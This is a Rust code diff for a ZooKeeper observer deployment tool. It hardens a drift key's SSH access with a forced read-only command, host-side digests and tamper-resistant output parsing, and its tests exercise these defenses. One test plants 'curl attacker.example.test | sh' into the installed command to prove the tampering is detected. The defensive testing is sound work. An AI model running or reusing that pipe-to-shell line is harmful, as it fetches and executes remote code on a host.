@@ -9,7 +9,7 @@ use anyhow::{bail, Result};
 use base64::Engine as _;
 use hosts::plan::{Health, Observed, FILES};
 use hosts::render::{EXPORTER_SERVICE, ZOOKEEPER_SERVICE};
-use hosts::Observer;
+use hosts::{Observer, PublicKey};
 use sha2::{Digest, Sha256};
 
 use crate::ssh::Host;
@@ -119,8 +119,14 @@ impl Ports {
     }
 }
 
-/// The arguments of the inspect script for `o`.
-pub fn inspect_args(o: &Observer, ports: Ports) -> Vec<String> {
+/// The arguments of the inspect script for `o` of environment `env` (whose drift key's lines
+/// the read reports).
+pub fn inspect_args(
+    o: &Observer,
+    ports: Ports,
+    env: &str,
+    drift_key: Option<&PublicKey>,
+) -> Vec<String> {
     let mut args = vec![
         o.deploy_dir.0.clone(),
         PROJECT.to_string(),
@@ -130,9 +136,19 @@ pub fn inspect_args(o: &Observer, ports: Ports) -> Vec<String> {
         ANSWER_TIMEOUT_SECS.to_string(),
         ZOOKEEPER_SERVICE.to_string(),
         EXPORTER_SERVICE.to_string(),
+        drift_key.map_or_else(|| "-".to_string(), PublicKey::openssh),
+        drift_key_marker(env),
     ];
     args.extend(FILES.iter().map(|f| f.to_string()));
     args
+}
+
+/// The environment's drift key, if it has one (validation made sure it parses).
+pub fn drift_key(env: &manifests::Environment) -> Option<PublicKey> {
+    env.fleet
+        .drift_key
+        .as_deref()
+        .and_then(|k| PublicKey::parse(k).ok())
 }
 
 /// Where deploy installs the drift key's forced command, under an observer's deploy directory.
@@ -140,39 +156,37 @@ const READ_ONLY_COMMAND: &str = ".zk-observers/read-only.sh";
 
 /// The drift key's access as deploy wants it on `o`: the forced command (the inspect script with
 /// this observer's arguments fixed, whatever the client asks: its output is what an inspect over
-/// the deploy key prints, so drift reads the host the same way with either key) and the
-/// `authorized_keys` line that forces it. The command's first line names a digest of the rest:
-/// the host read reports that line, so an unchanged installation costs nothing.
+/// the deploy key prints, so drift reads the host the same way with either key) and the one
+/// `authorized_keys` line that forces it. The host read reports the command's digest as the host
+/// computes it, so a command changed on the host is found.
 pub fn drift_access(
     o: &Observer,
     ports: Ports,
     env: &str,
-    key: &hosts::PublicKey,
+    key: &PublicKey,
 ) -> hosts::plan::DriftAccess {
-    let quoted: Vec<String> = inspect_args(o, ports)
+    let quoted: Vec<String> = inspect_args(o, ports, env, Some(key))
         .iter()
         .map(|a| format!("'{}'", a.replace('\'', "'\\''")))
         .collect();
-    let body = format!(
+    let command = format!(
         "# Installed by zk-observers-xtask (deploy): the only command the drift job's SSH key runs on\n\
          # this host (authorized_keys: restrict,command=...). It reads the host and changes nothing.\n\
          set -- {}\n{LIB}\n{}",
         quoted.join(" "),
         Script::Inspect.body()
     );
-    let header = format!(
-        "# zk-observers read-only command sha256:{}",
-        sha256_hex(body.as_bytes())
-    );
     hosts::plan::DriftAccess {
-        header: Some(header.clone()),
+        digest: Some(format!("sha256:{}", sha256_hex(command.as_bytes()))),
+        owners: vec![],
+        login_uid: None,
         lines: vec![format!(
             "restrict,command=\"/bin/bash {}/{READ_ONLY_COMMAND}\" {} {}",
             o.deploy_dir.0,
             key.openssh(),
             drift_key_marker(env)
         )],
-        command: format!("{header}\n{body}"),
+        command,
     }
 }
 
@@ -181,23 +195,49 @@ pub fn drift_key_marker(env: &str) -> String {
     format!("zk-observers-drift@{env}")
 }
 
-/// Installs the drift key's forced command and `authorized_keys` line (`want`) on `o`:
-/// `installed` (the script itself replaces only what differs).
-pub async fn install_drift_access(
+/// Makes `want` the drift key's only way into `o` (the forced command and the one line; every
+/// other line for the key removed), or with `want` `None` revokes it. Returns `installed`,
+/// `revoked` or `unchanged`, with the other lines it removed.
+pub async fn set_drift_access(
     host: &Host,
     o: &Observer,
     env: &str,
-    want: &hosts::plan::DriftAccess,
+    key: Option<&PublicKey>,
+    want: Option<&hosts::plan::DriftAccess>,
 ) -> Result<String> {
+    let line = want
+        .and_then(|w| w.lines.first())
+        .map_or("-", String::as_str);
+    let key = key.map_or_else(|| "-".to_string(), PublicKey::openssh);
     let out = host
         .run_ok(
-            "installing the drift key's read-only command",
+            if want.is_some() {
+                "installing the drift key's read-only command"
+            } else {
+                "revoking the drift key"
+            },
             Script::ReadOnlyAccess,
-            &[&o.deploy_dir.0, &want.lines[0], &drift_key_marker(env)],
-            Some(want.command.as_bytes()),
+            &[&o.deploy_dir.0, line, &drift_key_marker(env), &key],
+            Some(want.map_or(&b""[..], |w| w.command.as_bytes())),
         )
         .await?;
-    Ok(out.trim().to_string())
+    let text = String::from_utf8_lossy(&out);
+    let removed: Vec<&str> = text
+        .lines()
+        .filter_map(|l| l.strip_prefix("removed "))
+        .collect();
+    let result = text.lines().last().unwrap_or_default().trim().to_string();
+    Ok(if removed.is_empty() {
+        result
+    } else if want.is_none() {
+        format!("{result}: removed {}", removed.join(" | "))
+    } else {
+        format!(
+            "{result}; removed {} other line(s) for the drift key: {}",
+            removed.len(),
+            removed.join(" | ")
+        )
+    })
 }
 
 /// The arguments of the probe script.
@@ -216,19 +256,17 @@ fn strs(v: &[String]) -> Vec<&str> {
 }
 
 /// Reads the host in one remote command: the managed files, what the deployed zoo.cfg's names
-/// resolve to, the health probe (without a scrape, [`ExporterCheck::Answers`]), and the running
-/// services. The docker CLI is asked for those only when the probe does not show both containers
-/// answering: a probe costs the host a few milliseconds, the docker CLI tens.
-pub async fn inspect(host: &Host, o: &Observer, ports: Ports) -> Result<Observed> {
+/// resolve to, the drift key's access, the health probe (without a scrape,
+/// [`ExporterCheck::Answers`]), and the running services. The docker CLI is asked for those only
+/// when the probe does not show both containers answering: a probe costs the host a few
+/// milliseconds, the docker CLI tens.
+pub async fn inspect(host: &Host, o: &Observer, env: &manifests::Environment) -> Result<Observed> {
+    let key = drift_key(env);
+    let args = inspect_args(o, Ports::of(env), &env.name, key.as_ref());
     let out = host
-        .run_ok(
-            "reading the host",
-            Script::Inspect,
-            &strs(&inspect_args(o, ports)),
-            None,
-        )
+        .run_ok("reading the host", Script::Inspect, &strs(&args), None)
         .await?;
-    parse_inspect(&out)
+    parse_inspect(&out).map_err(|e| anyhow::anyhow!("{}: reading the host: {e:#}", o.name))
 }
 
 pub async fn probe(
@@ -241,7 +279,7 @@ pub async fn probe(
     let out = host
         .run_ok("probing ZooKeeper", Script::Probe, &strs(&args), None)
         .await?;
-    Ok(parse_probe(&out))
+    Ok(parse_probe(&Frames::parse(&out)?))
 }
 
 /// Resolves `names` on the host, as ZooKeeper there will.
@@ -254,7 +292,7 @@ pub async fn resolve(host: &Host, names: &[String]) -> Result<BTreeMap<String, O
             None,
         )
         .await?;
-    Ok(parse_resolved(&out))
+    Ok(parse_resolved(&Frames::parse(&out)?))
 }
 
 pub fn sha256_hex(bytes: &[u8]) -> String {
@@ -310,6 +348,18 @@ pub async fn restore_file(host: &Host, o: &Observer, name: &str) -> Result<()> {
     .map(drop)
 }
 
+/// After a first deployment was undone: removes the directories it created, as far as empty.
+pub async fn remove_empty_deployment(host: &Host, o: &Observer) -> Result<()> {
+    host.run_ok(
+        "removing the undone deployment's directories",
+        Script::Restore,
+        &[&o.deploy_dir.0, "--empty-deployment"],
+        None,
+    )
+    .await
+    .map(drop)
+}
+
 pub async fn compose(host: &Host, o: &Observer, args: &[&str]) -> Result<String> {
     let mut all = vec![o.deploy_dir.0.as_str(), PROJECT];
     all.extend_from_slice(args);
@@ -320,97 +370,183 @@ pub async fn compose(host: &Host, o: &Observer, args: &[&str]) -> Result<String>
         None,
     )
     .await
+    .map(|out| String::from_utf8_lossy(&out).into_owned())
 }
 
-/// The text of the `=== NAME` section of a script's output: up to the next `=== ` line.
-fn section<'a>(out: &'a str, name: &str) -> &'a str {
-    let start = format!("=== {name}\n");
-    let Some(i) = out.find(&start) else {
-        return "";
-    };
-    let rest = &out[i + start.len()..];
-    if rest.starts_with("=== ") {
-        return "";
+/// What a script reported: its length-framed sections (`=== NAME LENGTH`, LENGTH bytes, a
+/// newline; `frame` in `scripts/lib.sh`). Nothing inside a section can pass for a section of its
+/// own: an exporter's answer that contains `=== file zoo.cfg` is just part of that answer.
+pub struct Frames {
+    frames: Vec<(String, Vec<u8>)>,
+}
+
+impl Frames {
+    pub fn parse(out: &[u8]) -> Result<Frames> {
+        let mut frames = Vec::new();
+        let mut rest = out;
+        while !rest.is_empty() {
+            let Some(header_end) = rest.iter().position(|b| *b == b'\n') else {
+                bail!("a section header without its end");
+            };
+            let header = std::str::from_utf8(&rest[..header_end])
+                .map_err(|_| anyhow::anyhow!("a section header that is not text"))?;
+            let Some((name, len)) = header.strip_prefix("=== ").and_then(|h| h.rsplit_once(' '))
+            else {
+                bail!(
+                    "not a section header: {:?}",
+                    header.chars().take(80).collect::<String>()
+                );
+            };
+            let len: usize = len.parse().map_err(|_| {
+                anyhow::anyhow!("a section length that is not a number: {header:?}")
+            })?;
+            let body_start = header_end + 1;
+            let body_end = body_start + len;
+            if rest.len() <= body_end || rest[body_end] != b'\n' {
+                bail!("section {name:?} is cut short");
+            }
+            if frames.iter().any(|(n, _)| n == name) {
+                bail!("section {name:?} appears twice");
+            }
+            frames.push((name.to_string(), rest[body_start..body_end].to_vec()));
+            rest = &rest[body_end + 1..];
+        }
+        Ok(Frames { frames })
     }
-    rest.find("\n=== ").map_or(rest, |j| &rest[..j])
+
+    /// The body of section `name`, if there is one.
+    pub fn get(&self, name: &str) -> Option<&[u8]> {
+        self.frames
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, b)| b.as_slice())
+    }
+
+    /// The body of section `name` as text (lossy), empty when absent.
+    pub fn text(&self, name: &str) -> String {
+        self.get(name)
+            .map(|b| String::from_utf8_lossy(b).into_owned())
+            .unwrap_or_default()
+    }
+
+    fn has(&self, name: &str) -> bool {
+        self.get(name).is_some()
+    }
 }
 
-/// `host:port ok|refused|timeout` lines of a `=== reach` section.
-fn parse_reach(out: &str) -> BTreeMap<String, hosts::plan::Reach> {
-    section(out, "reach")
+/// `host:port ok|refused|timeout` lines of the `reach` section.
+fn parse_reach(f: &Frames) -> BTreeMap<String, hosts::plan::Reach> {
+    f.text("reach")
         .lines()
         .filter_map(|l| l.split_once(' '))
         .filter_map(|(t, r)| Some((t.to_string(), hosts::plan::Reach::parse(r.trim())?)))
         .collect()
 }
 
-/// The `=== read-only` section: the installed forced command's first line (or `-`), then the
-/// drift key lines of `authorized_keys`.
-fn parse_drift_access(out: &str) -> hosts::plan::DriftAccess {
-    let mut lines = section(out, "read-only").lines();
-    let header = lines.next().filter(|h| *h != "-").map(str::to_string);
+/// The drift key's access as read: the command's digest, owners and modes up to `/`, the lines.
+fn parse_drift_access(f: &Frames) -> hosts::plan::DriftAccess {
+    let digest = f.text("read-only-digest");
+    let owners_text = f.text("read-only-owners");
+    let mut owners_lines = owners_text.lines();
+    let login_uid = owners_lines
+        .next()
+        .and_then(|l| l.strip_prefix("uid "))
+        .and_then(|u| u.trim().parse().ok());
+    let owners = owners_lines
+        .filter_map(|l| {
+            let mut parts = l.splitn(3, ' ');
+            Some(hosts::plan::Owner {
+                uid: parts.next()?.parse().ok()?,
+                mode: parts.next()?.to_string(),
+                path: parts.next()?.to_string(),
+            })
+        })
+        .collect();
     hosts::plan::DriftAccess {
-        header,
-        lines: lines.map(str::to_string).collect(),
+        digest: (!digest.is_empty() && digest != "-").then_some(digest),
+        owners,
+        login_uid,
+        lines: f
+            .text("drift-key-lines")
+            .lines()
+            .map(str::to_string)
+            .collect(),
         command: String::new(),
     }
 }
 
-/// `name address` / `name -` lines of a `=== resolve` section.
-fn parse_resolved(out: &str) -> BTreeMap<String, Option<String>> {
-    section(out, "resolve")
+/// `name address` / `name -` lines of the `resolve` section.
+fn parse_resolved(f: &Frames) -> BTreeMap<String, Option<String>> {
+    f.text("resolve")
         .lines()
         .filter_map(|l| l.split_once(' '))
         .map(|(n, a)| (n.to_string(), (a != "-").then(|| a.to_string())))
         .collect()
 }
 
-pub fn parse_inspect(out: &str) -> Result<Observed> {
+/// How our own scripts are invoked (`bash -c TEXT zk-observers ARGS`): `$0`.
+const INVOKED_AS: &str = "zk-observers";
+
+pub fn parse_inspect(out: &[u8]) -> Result<Observed> {
+    let f = Frames::parse(out)?;
     let mut files = BTreeMap::new();
-    let mut running = std::collections::BTreeSet::new();
     let mut directories = std::collections::BTreeSet::new();
-    let mut lines = out.lines();
-    let mut in_running = false;
-    while let Some(line) = lines.next() {
-        if let Some(name) = line.strip_prefix("=== file ") {
-            let b64 = lines.next().unwrap_or_default();
-            let bytes = base64::engine::general_purpose::STANDARD.decode(b64.trim())?;
+    let mut symlinks = BTreeMap::new();
+    for name in FILES {
+        if let Some(b64) = f.get(&format!("file {name}")) {
+            let bytes = base64::engine::general_purpose::STANDARD.decode(b64)?;
             files.insert(
                 name.to_string(),
                 Some(String::from_utf8_lossy(&bytes).into_owned()),
             );
-        } else if let Some(name) = line.strip_prefix("=== absent ") {
+        } else if f.has(&format!("absent {name}")) {
             files.insert(name.to_string(), None);
-        } else if let Some(name) = line.strip_prefix("=== dir ") {
+        } else if f.has(&format!("dir {name}")) {
             files.insert(name.to_string(), None);
             directories.insert(name.to_string());
-        } else if line == "=== running" {
-            in_running = true;
-        } else if line.starts_with("=== ") {
-            in_running = false;
-        } else if in_running && !line.trim().is_empty() {
-            running.insert(line.trim().to_string());
+        } else if let Some(target) = f.get(&format!("symlink {name}")) {
+            files.insert(name.to_string(), None);
+            symlinks.insert(
+                name.to_string(),
+                String::from_utf8_lossy(target).into_owned(),
+            );
+        } else {
+            bail!("the host read says nothing of {name}");
         }
     }
-    if files.len() != FILES.len() {
-        bail!("unexpected answer from the host: {out}");
+    let invoked = f.text("invoked");
+    if invoked.is_empty() {
+        bail!("unexpected answer from the host (no `invoked` section)");
     }
     Ok(Observed {
         files,
-        running,
-        resolved: parse_resolved(out),
-        health: parse_probe(out),
+        running: f
+            .text("running")
+            .lines()
+            .map(str::trim)
+            .filter(|l| !l.is_empty())
+            .map(str::to_string)
+            .collect(),
+        resolved: parse_resolved(&f),
+        health: parse_probe(&f),
         directories,
-        reach: parse_reach(out),
-        drift_access: parse_drift_access(out),
+        reach: parse_reach(&f),
+        drift_access: parse_drift_access(&f),
+        symlinks,
+        stray: f.text("stray").lines().map(str::to_string).collect(),
+        forced_command: invoked != INVOKED_AS,
     })
 }
 
-pub fn parse_probe(out: &str) -> Health {
-    let srvr = section(out, "srvr");
-    let mntr = section(out, "mntr");
-    let metrics = section(out, "metrics");
-    let answer = section(out, "exporter");
+pub fn parse_probe(f: &Frames) -> Health {
+    let (srvr, mntr) = (f.text("srvr"), f.text("mntr"));
+    let (metrics, answer) = (f.text("metrics"), f.text("exporter"));
+    let (srvr, mntr, metrics, answer) = (
+        srvr.as_str(),
+        mntr.as_str(),
+        metrics.as_str(),
+        answer.as_str(),
+    );
     let mode = srvr
         .lines()
         .find_map(|l| l.strip_prefix("Mode: ").map(|m| m.trim().to_string()));
@@ -418,7 +554,7 @@ pub fn parse_probe(out: &str) -> Health {
         l.strip_prefix("zk_peer_state\t")
             .map(|m| m.trim().to_string())
     });
-    let scraped = out.contains("=== metrics\n");
+    let scraped = f.has("metrics");
     let exporter = if scraped {
         metrics.starts_with("HTTP/1.")
             && metrics
@@ -472,55 +608,134 @@ mod tests {
     use std::process::{Command, Stdio};
     use std::time::{Duration, Instant};
 
+    /// Sections as the scripts frame them (`frame` in lib.sh).
+    fn framed(sections: &[(&str, &str)]) -> Vec<u8> {
+        let mut out = Vec::new();
+        for (name, body) in sections {
+            out.extend_from_slice(format!("=== {name} {}\n{body}\n", body.len()).as_bytes());
+        }
+        out
+    }
+
+    fn probe_of(sections: &[(&str, &str)]) -> Health {
+        parse_probe(&Frames::parse(&framed(sections)).unwrap())
+    }
+
     #[test]
     fn parses_an_observing_observer() {
-        let out = "=== srvr\nZookeeper version: 3.8.0\nMode: observer\nNode count: 5\n\n=== mntr\nzk_version\t3.8.0\n\
-                   zk_server_state\tobserver\nzk_peer_state\tobserving - broadcast\n\n=== metrics\nHTTP/1.0 200 OK\r\n\r\nzk_up 1\nzk_znode_count 5\n";
-        let h = parse_probe(out);
+        let h = probe_of(&[
+            ("srvr", "Zookeeper version: 3.8.0\nMode: observer\nNode count: 5\n"),
+            ("mntr", "zk_version\t3.8.0\nzk_server_state\tobserver\nzk_peer_state\tobserving - broadcast\n"),
+            ("metrics", "HTTP/1.0 200 OK\r\n\r\nzk_up 1\nzk_znode_count 5\n"),
+        ]);
         assert_eq!(h.mode.as_deref(), Some("observer"));
         assert!(h.healthy(), "{h:?}");
     }
 
     #[test]
     fn a_syncing_or_dead_observer_is_not_healthy() {
-        let h = parse_probe("=== srvr\nThis ZooKeeper instance is not currently serving requests\n\n=== mntr\n\n=== metrics\n");
+        let h = probe_of(&[
+            (
+                "srvr",
+                "This ZooKeeper instance is not currently serving requests\n",
+            ),
+            ("mntr", ""),
+            ("metrics", ""),
+        ]);
         assert!(!h.healthy());
         assert!(
             h.detail.contains("not currently serving requests"),
             "{}",
             h.detail
         );
-        let h = parse_probe("=== srvr\nMode: observer\n\n=== mntr\nzk_peer_state\tobserving - synchronization - DIFF\n\n=== metrics\nHTTP/1.0 200 OK\r\n\r\nzk_up 1\n");
+        let h = probe_of(&[
+            ("srvr", "Mode: observer\n"),
+            (
+                "mntr",
+                "zk_peer_state\tobserving - synchronization - DIFF\n",
+            ),
+            ("metrics", "HTTP/1.0 200 OK\r\n\r\nzk_up 1\n"),
+        ]);
         assert!(!h.healthy());
         assert!(
             h.detail.contains("observing - synchronization"),
             "{}",
             h.detail
         );
-        let h = parse_probe("=== srvr\nMode: observer\n\n=== mntr\nzk_peer_state\tobserving - broadcast\n\n=== metrics\nbash: connect: Connection refused\n");
+        let h = probe_of(&[
+            ("srvr", "Mode: observer\n"),
+            ("mntr", "zk_peer_state\tobserving - broadcast\n"),
+            ("metrics", "bash: connect: Connection refused\n"),
+        ]);
         assert!(h.observing() && !h.healthy());
     }
 
     #[test]
     fn without_a_scrape_an_answering_exporter_counts() {
-        let probe = "=== srvr\nMode: observer\n\n=== mntr\nzk_peer_state\tobserving - broadcast\n\n=== exporter\n";
-        let h = parse_probe(&format!("{probe}HTTP/1.0 404 Not Found\r\n\r\nnot found\n"));
+        let probe = |exporter: &str| {
+            probe_of(&[
+                ("srvr", "Mode: observer\n"),
+                ("mntr", "zk_peer_state\tobserving - broadcast\n"),
+                ("exporter", exporter),
+            ])
+        };
+        let h = probe("HTTP/1.0 404 Not Found\r\n\r\nnot found\n");
         assert!(h.healthy(), "{h:?}");
         assert_eq!(h.detail, "observing - broadcast, exporter answering");
-        let h = parse_probe(&format!("{probe}connection to 198.18.1.4:9141 refused\n"));
+        let h = probe("connection to 198.18.1.4:9141 refused");
         assert!(h.observing() && !h.healthy());
         assert_eq!(h.detail, "exporter: connection to 198.18.1.4:9141 refused");
     }
 
+    fn inspect_output(exporter: &str) -> Vec<u8> {
+        framed(&[
+            ("invoked", "zk-observers"),
+            ("file zoo.cfg", "dGlja1RpbWU9MjAwMAo="),
+            ("absent docker-compose.yaml", ""),
+            ("stray", ""),
+            ("read-only-digest", "-"),
+            ("drift-key-lines", ""),
+            ("resolve", "zk0.lb.test 198.18.0.11\nzk1.lb.test -\n"),
+            ("srvr", "Mode: observer\n"),
+            ("mntr", "zk_peer_state\tobserving - broadcast\n"),
+            ("exporter", exporter),
+            ("running", "zookeeper\nexporter"),
+        ])
+    }
+
     #[test]
     fn parses_inspect_output() {
-        let out = "=== file zoo.cfg\ndGlja1RpbWU9MjAwMAo=\n=== absent docker-compose.yaml\n=== resolve\nzk0.lb.test 198.18.0.11\nzk1.lb.test -\n=== running\nzookeeper\nexporter\n=== srvr\nMode: observer\n\n=== mntr\nzk_peer_state\tobserving - broadcast\n\n=== metrics\nHTTP/1.0 200 OK\r\n\r\nzk_up 1\n";
-        let s = parse_inspect(out).unwrap();
+        let s = parse_inspect(&inspect_output("HTTP/1.0 200 OK\r\n\r\n")).unwrap();
         assert_eq!(s.file("zoo.cfg"), Some("tickTime=2000\n"));
         assert_eq!(s.file("docker-compose.yaml"), None);
         assert!(s.running.contains("zookeeper") && s.running.contains("exporter"));
         assert!(s.health.healthy());
         assert_eq!(s.unresolved(), ["zk1.lb.test"]);
+        assert!(!s.forced_command);
+    }
+
+    /// What a host relays (an exporter's answer) cannot forge a section: a planted
+    /// `=== file zoo.cfg` inside it stays part of that answer, and a cut or doubled section is an
+    /// error, not a read.
+    #[test]
+    fn a_relayed_answer_cannot_forge_a_section() {
+        let forged_cfg = base64::engine::general_purpose::STANDARD.encode("syncLimit=99\n");
+        let planted = format!("HTTP/1.0 200 OK\r\n\r\n\n=== file zoo.cfg 20\n{forged_cfg}\n");
+        let s = parse_inspect(&inspect_output(&planted)).unwrap();
+        assert_eq!(
+            s.file("zoo.cfg"),
+            Some("tickTime=2000\n"),
+            "the real file, not the planted one"
+        );
+        let mut doubled = inspect_output("x");
+        doubled.extend_from_slice(&framed(&[("file zoo.cfg", &forged_cfg)]));
+        let err = parse_inspect(&doubled).unwrap_err().to_string();
+        assert!(err.contains("appears twice"), "{err}");
+        let cut = inspect_output("HTTP/1.0 200 OK");
+        let err = parse_inspect(&cut[..cut.len() - 5])
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("cut short") || err.contains("header"), "{err}");
     }
 
     // --- the scripts themselves, run locally by bash and sh in a temporary directory --------------
@@ -666,41 +881,89 @@ mod tests {
         assert!(!d.join("docker-compose.yaml").exists());
     }
 
+    /// The inspect script run here on `d` (ports that nothing answers on), as `home`'s user.
+    fn inspect_here(home: Option<&Path>, d: &Path, key: Option<&PublicKey>) -> Observed {
+        let o = Observer {
+            deploy_dir: hosts::RemoteDir(d.display().to_string()),
+            address: "127.0.0.1".parse().unwrap(),
+            ..hosts::inventory::sandbox::observers().remove(0)
+        };
+        let args = inspect_args(
+            &o,
+            Ports {
+                client: 1,
+                metrics: 1,
+            },
+            "sandbox",
+            key,
+        );
+        let (code, out, err) = run_with(home, Script::Inspect, &strs(&args), None);
+        assert_eq!(code, 0, "{err}");
+        parse_inspect(out.as_bytes()).unwrap()
+    }
+
     #[test]
     fn inspect_says_when_a_directory_stands_where_a_file_belongs() {
         let dir = tempfile::tempdir().unwrap();
         let d = dir.path().join("deploy");
         std::fs::create_dir_all(d.join("zoo.cfg")).unwrap();
         std::fs::write(d.join("docker-compose.yaml"), "services: {}\n").unwrap();
-        let ds = d.display().to_string();
-        let (code, out, err) = run(
-            Script::Inspect,
-            &[
-                &ds,
-                "p",
-                "127.0.0.1",
-                "1",
-                "1",
-                "1",
-                "zookeeper",
-                "exporter",
-                "zoo.cfg",
-                "docker-compose.yaml",
-            ],
-            None,
-        );
-        assert_eq!(code, 0, "{err}");
-        let observed = parse_inspect(&out).unwrap();
+        let observed = inspect_here(None, &d, None);
         assert_eq!(observed.file("zoo.cfg"), None);
         assert_eq!(observed.file("docker-compose.yaml"), Some("services: {}\n"));
-        assert!(observed.directories.contains("zoo.cfg"), "{out}");
+        assert!(observed.directories.contains("zoo.cfg"));
+    }
+
+    /// A symbolic link where zoo.cfg belongs is reported with its target and never read: a link
+    /// to a secret does not put the secret into a drift report.
+    #[test]
+    fn inspect_never_reads_through_a_symbolic_link() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = dir.path().join("deploy");
+        std::fs::create_dir_all(&d).unwrap();
+        let secret = dir.path().join("secret");
+        std::fs::write(
+            &secret,
+            "server.1=leaked.example.test:2888:3888:participant\npassword=hunter2\n",
+        )
+        .unwrap();
+        std::os::unix::fs::symlink(&secret, d.join("zoo.cfg")).unwrap();
+        let observed = inspect_here(None, &d, None);
+        assert_eq!(observed.file("zoo.cfg"), None);
+        assert_eq!(observed.symlinks["zoo.cfg"], secret.display().to_string());
+        assert!(
+            observed.resolved.is_empty(),
+            "names in the linked file are not looked up"
+        );
+        // Nor does restore copy through a link planted as the previous version.
+        std::fs::remove_file(d.join("zoo.cfg")).unwrap();
+        std::os::unix::fs::symlink(&secret, d.join("zoo.cfg.previous")).unwrap();
+        let ds = d.display().to_string();
+        let (code, _, err) = run(Script::Restore, &[&ds, "zoo.cfg"], None);
+        assert_eq!(code, 4, "{err}");
+        assert!(!d.join("zoo.cfg").exists());
     }
 
     #[test]
-    fn the_host_read_says_whether_the_drift_access_is_installed_as_wanted() {
+    fn inspect_reports_compose_and_env_files_it_did_not_write() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = dir.path().join("deploy");
+        std::fs::create_dir_all(&d).unwrap();
+        std::fs::write(d.join("docker-compose.override.yaml"), "services: {}\n").unwrap();
+        std::fs::write(d.join(".env"), "COMPOSE_FILE=x\n").unwrap();
+        let observed = inspect_here(None, &d, None);
+        assert_eq!(observed.stray, ["docker-compose.override.yaml", ".env"]);
+    }
+
+    /// The drift key's access as read: the command's digest computed by the host, who can change
+    /// it, and every authorized_keys line for the key. Installing it leaves exactly one line for
+    /// the key (an unrestricted one placed first would win: sshd takes the first match); a command
+    /// edited on the host is found by its digest and replaced; revoking removes both.
+    #[test]
+    fn the_drift_key_gets_exactly_one_way_in_and_a_changed_command_is_found() {
         let dir = tempfile::tempdir().unwrap();
         let home = dir.path().join("home");
-        std::fs::create_dir_all(&home).unwrap();
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
         let d = dir.path().join("deploy");
         std::fs::create_dir_all(&d).unwrap();
         let o = Observer {
@@ -715,31 +978,106 @@ mod tests {
         let key =
             hosts::PublicKey::parse(&hosts::inventory::sandbox::drift_key().unwrap()).unwrap();
         let want = drift_access(&o, ports, "sandbox", &key);
-        let read = || {
-            let args = inspect_args(&o, ports);
-            let (code, out, err) = run_with(Some(&home), Script::Inspect, &strs(&args), None);
-            assert_eq!(code, 0, "{err}");
-            parse_inspect(&out).unwrap().drift_access
-        };
-        assert!(!want.installed_as(&read()), "nothing installed yet");
-        let marker = drift_key_marker("sandbox");
-        let install = || {
-            run_with(
+        let read = || inspect_here(Some(&home), &d, Some(&key)).drift_access;
+        let ak = home.join(".ssh/authorized_keys");
+        // The drift key authorized without restriction before (and the deploy key's own line).
+        let unrestricted = format!("{} old drift setup", key.openssh());
+        std::fs::write(
+            &ak,
+            format!("{unrestricted}\nssh-ed25519 AAAAdeploy deploy\n"),
+        )
+        .unwrap();
+        let problems = want.problems_in(&read());
+        assert!(
+            problems.iter().any(|p| p.contains("not installed")),
+            "{problems:?}"
+        );
+        assert!(
+            problems.iter().any(|p| p.contains(&format!(
+                "another authorized_keys line for the drift key: `{unrestricted}`"
+            ))),
+            "{problems:?}"
+        );
+        let set = |k: Option<&PublicKey>, w: Option<&hosts::plan::DriftAccess>| {
+            let line = w.map_or("-".to_string(), |w| w.lines[0].clone());
+            let k = k.map_or("-".to_string(), PublicKey::openssh);
+            let (code, out, err) = run_with(
                 Some(&home),
                 Script::ReadOnlyAccess,
-                &[&o.deploy_dir.0, &want.lines[0], &marker],
-                Some(want.command.as_bytes()),
-            )
+                &[&o.deploy_dir.0, &line, &drift_key_marker("sandbox"), &k],
+                Some(w.map_or(&b""[..], |w| w.command.as_bytes())),
+            );
+            assert_eq!(code, 0, "{err}");
+            out
         };
-        assert_eq!(install().1.trim(), "installed");
-        assert!(want.installed_as(&read()), "read back as installed");
-        assert_eq!(install().1.trim(), "unchanged");
-        // Another deployment's inspect arguments: a new command to install.
-        let moved = Observer {
-            address: "127.0.0.2".parse().unwrap(),
-            ..o.clone()
-        };
-        assert!(!drift_access(&moved, ports, "sandbox", &key).installed_as(&read()));
+        let out = set(Some(&key), Some(&want));
+        assert!(out.contains(&format!("removed {unrestricted}")), "{out}");
+        assert!(out.trim_end().ends_with("installed"), "{out}");
+        assert!(
+            want.installed_as(&read()),
+            "{:?}",
+            want.problems_in(&read())
+        );
+        let lines = std::fs::read_to_string(&ak).unwrap();
+        assert_eq!(
+            lines,
+            format!("ssh-ed25519 AAAAdeploy deploy\n{}\n", want.lines[0])
+        );
+        assert_eq!(set(Some(&key), Some(&want)).trim(), "unchanged");
+
+        // The command's body edited on the host, its first line kept: found by the digest.
+        let cmd = d.join(READ_ONLY_COMMAND);
+        let text = std::fs::read_to_string(&cmd).unwrap();
+        std::fs::write(&cmd, format!("{text}\ncurl attacker.example.test | sh\n")).unwrap();
+        let problems = want.problems_in(&read());
+        assert!(
+            problems
+                .iter()
+                .any(|p| p.contains("was changed on the host")),
+            "{problems:?}"
+        );
+        assert!(set(Some(&key), Some(&want))
+            .trim_end()
+            .ends_with("installed"));
+        assert!(want.installed_as(&read()));
+
+        // A directory above it that others can write: reported, and installing refuses.
+        std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
+        let problems = want.problems_in(&read());
+        assert!(
+            problems
+                .iter()
+                .any(|p| p.contains("can be changed by others")),
+            "{problems:?}"
+        );
+        let (code, _, err) = run_with(
+            Some(&home),
+            Script::ReadOnlyAccess,
+            &[
+                &o.deploy_dir.0,
+                &want.lines[0],
+                &drift_key_marker("sandbox"),
+                &key.openssh(),
+            ],
+            Some(want.command.as_bytes()),
+        );
+        assert_eq!(code, 4, "{err}");
+        assert!(
+            err.contains("refusing to install the drift key's command under"),
+            "{err}"
+        );
+        std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+
+        // No drift key in the code any more: revoked, the line and the command gone.
+        let out = set(None, None);
+        assert!(out.trim_end().ends_with("revoked"), "{out}");
+        assert!(out.contains("removed restrict,command="), "{out}");
+        assert_eq!(
+            std::fs::read_to_string(&ak).unwrap(),
+            "ssh-ed25519 AAAAdeploy deploy\n"
+        );
+        assert!(!cmd.exists());
+        assert!(!read().any());
     }
 
     #[test]
@@ -769,7 +1107,7 @@ mod tests {
             None,
         );
